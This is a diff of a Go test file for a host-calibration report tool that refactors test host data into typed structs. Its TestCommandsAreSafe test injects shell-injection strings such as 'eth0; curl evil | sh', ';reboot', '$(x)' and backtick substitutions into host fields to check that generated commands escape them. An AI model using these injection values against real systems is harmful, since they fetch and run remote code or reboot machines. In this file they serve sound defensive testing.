@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"flag"
 	"fmt"
+	"math"
 	"os"
 	"slices"
 	"strings"
@@ -22,7 +23,8 @@ var update = flag.Bool("update", false, "rewrite the golden file in testdata")
 
 // sound is a host with which nothing is wrong.
 func sound(name, addr string, more ...string) Host {
-	h := Host{Name: name, Addr: addr, Boot: "boot of " + name, Offset: 3 * time.Millisecond, Bound: 5 * time.Millisecond,
+	h := Host{Offset: 3 * time.Millisecond, Bound: 5 * time.Millisecond, Host: dataset.Host{
+		Name: name, Addr: addr, Boot: "boot of " + name,
 		Env: map[string]string{
 			"kernel": "6.12.9", "cpu.model": "Some CPU", "cpu.cores": "16", "cpu.governor": "performance",
 			"cpu.idle_deepest": "C1", "cpu.idle_wake_us": "2",
@@ -31,16 +33,11 @@ func sound(name, addr string, more ...string) Host {
 			"nic.duplex": "full", "nic.coalesce.rx_usecs": "8", "nic.coalesce.adaptive_rx": "0", "nic.tso": "on",
 			"nic.lro": "off", "nic.rx_checksum": "on", "nic.tx_checksum": "on",
 		},
-		Now: map[string]string{"load": "0.10", "clocksources": "tsc hpet", "ports": "32768 60999", "open_files": "65536",
-			"disk_free": "10000000000",
-			"disk_path": "/home/u/.cache/calib", "clock_synced": "yes"},
-	}
+		Now: dataset.Now{Load: 0.1, Clocks: []string{"tsc", "hpet"}, Ports: [2]int{32768, 60999}, Files: 65536,
+			Disk: 10_000_000_000, DiskPath: "/home/u/.cache/calib"},
+	}}
 	for i := 0; i+1 < len(more); i += 2 {
-		if now, ok := strings.CutPrefix(more[i], "now."); ok {
-			h.Now[now] = more[i+1]
-		} else {
-			h.Env[more[i]] = more[i+1]
-		}
+		h.Env[more[i]] = more[i+1]
 	}
 	return h
 }
@@ -91,15 +88,17 @@ func TestReportGolden(t *testing.T) {
 		sound("b", "10.0.0.2:7100", "nic.mtu", "1500", "nic.speed_mbps", "1000", "nic.duplex", "half", "tcp.congestion",
 			"bbr", "nic.tso", "off"),
 		sound("c", "10.0.0.3:7100", "cpu.governor", "powersave", "cpu.idle_deepest", "C6", "cpu.idle_wake_us", "133", "virt",
-			"kvm", "now.load", "9.50"),
+			"kvm"),
 		sound("d", "10.0.0.4:7100", "clocksource", "hpet", "nic.coalesce.rx_usecs", "64", "nic.lro", "on", "nic.tx_checksum",
 			"off"),
-		sound("e", "10.0.0.5:7100", "now.open_files", "100", "now.ports", "60000 60999", "now.disk_free", "1000000",
-			"now.clock_synced", "no", "container", "podman"),
+		sound("e", "10.0.0.5:7100", "container", "podman"),
 		sound("refused", "10.0.0.6:7100"), sound("silent", "10.0.0.7:7100"), sound("noroute", "10.0.0.8:7100"),
 		sound("late", "10.0.0.9:7100"), sound("twin", "[fd00::9]:7100", "nic.name", ""),
-		{Name: "gone", Lost: "ssh gone: connection refused"},
+		{Host: dataset.Host{Name: "gone"}, Lost: "ssh gone: connection refused"},
 	}}
+	f.Hosts[2].Now.Load = 9.5
+	f.Hosts[4].Now = dataset.Now{Files: 100, Ports: [2]int{60000, 60999}, Disk: 1_000_000, Unsynced: true,
+		DiskPath: f.Hosts[4].Now.DiskPath}
 	delete(f.Hosts[9].Env, "nic.name")
 	f.Hosts[8].Offset, f.Hosts[9].Boot = 90*time.Second, f.Hosts[8].Boot
 	f.Pairs = all(h-1, func(a, b int, p *Pair) {
@@ -283,8 +282,8 @@ func TestReadPair(t *testing.T) {
 func TestCommandsAreSafe(t *testing.T) {
 	const evil = "eth0; curl evil | sh"
 	h := sound("h", "10.0.0.1:7;reboot", "nic.name", evil, "nic.mtu", "9001", "nic.lro", "on",
-		"nic.duplex", "half", "container", "$(x)", "now.disk_path", "/a`b`", "now.disk_free", "1", "kernel", "6.1\x1b[2J",
-		"tcp.congestion", evil, "core.default_qdisc", evil)
+		"nic.duplex", "half", "container", "$(x)", "kernel", "6.1\x1b[2J", "tcp.congestion", evil, "core.default_qdisc", evil)
+	h.Now.DiskPath, h.Now.Disk = "/a`b`", 1
 	same := sound("g", "10.0.0.3:7", "tcp.congestion", evil, "core.default_qdisc", evil)
 	f := Facts{Hosts: []Host{h, same, sound("b", "10.0.0.2:7")}}
 	f.Pairs = all(3, func(a, b int, p *Pair) {
@@ -302,12 +301,14 @@ func TestCommandsAreSafe(t *testing.T) {
 
 // Whatever agents say of themselves, a report is made of it.
 func FuzzExamine(f *testing.F) {
-	f.Add("nic.mtu", "9000", "now.ports", "1 2", "connection refused", "10.0.0.1:1", int64(5))
-	f.Add("cpu.cores", "-1", "now.load", "NaN", "ticket refused", "[::1]", int64(-1<<63))
-	f.Add("cpu.governor", "%s%[1]s", "now.disk_free", "1e9", "", "", int64(0))
-	f.Fuzz(func(t *testing.T, key, value, now, is, said, addr string, offset int64) {
-		h := sound("h", addr, key, value, now, is)
+	f.Add("nic.mtu", "9000", "eth0", 2, 0.5, "connection refused", "10.0.0.1:1", int64(5))
+	f.Add("cpu.cores", "-1", "", -1, math.NaN(), "ticket refused", "[::1]", int64(-1<<63))
+	f.Add("cpu.governor", "%s%[1]s", "/\x1b", 1<<40, 1e300, "", "", int64(0))
+	f.Fuzz(func(t *testing.T, key, value, text string, n int, load float64, said, addr string, offset int64) {
+		h := sound("h", addr, key, value)
 		h.Offset = time.Duration(offset)
+		h.Now = dataset.Now{Load: load, Clocks: []string{text}, Ports: [2]int{n, 1}, Files: uint64(n), Disk: uint64(n),
+			DiskPath: text}
 		facts := Facts{Hosts: []Host{sound("a", "10.0.0.1:1"), h, sound("b", addr)}}
 		facts.Pairs = all(3, func(a, b int, p *Pair) {
 			if a == 1 {
